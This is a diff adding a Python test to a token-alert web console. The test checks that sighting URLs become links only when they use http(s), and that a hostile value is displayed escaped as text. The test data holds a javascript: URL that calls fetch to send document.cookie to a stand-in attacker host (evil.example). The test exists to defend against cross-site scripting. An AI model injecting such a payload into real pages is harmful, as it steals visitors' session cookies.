@@ -228,3 +228,17 @@ def test_dry_run_is_shown_loudly_on_every_page(make_service):
     assert "<strong>DRY-RUN:</strong>" in client.get("/console/").text
     # Not to strangers: the sign-in page says nothing of the mode.
     assert "DRY-RUN" not in ConsoleClient(dry).get("/console/login").text
+
+
+def test_a_sighting_url_is_a_link_only_when_it_is_http(service, sandbox, alice):
+    token = sandbox.tokens[3]
+    hostile = "javascript:fetch('https://evil.example/'+document.cookie)"
+    assert service.post_alert(sandbox.github, [token], url=hostile).status_code == 200
+    assert (
+        service.post_alert(sandbox.github, [token], url="https://github.com/o/r/blob/main/a.env").status_code
+        == 200
+    )
+    page = alice.get(f"/console/incidents/{service.incident(token)['id']}").text
+    assert 'href="https://github.com/o/r/blob/main/a.env"' in page
+    assert "javascript:fetch(&#39;https://evil.example/&#39;+document.cookie)" in page  # shown, as text
+    assert 'href="javascript:' not in page
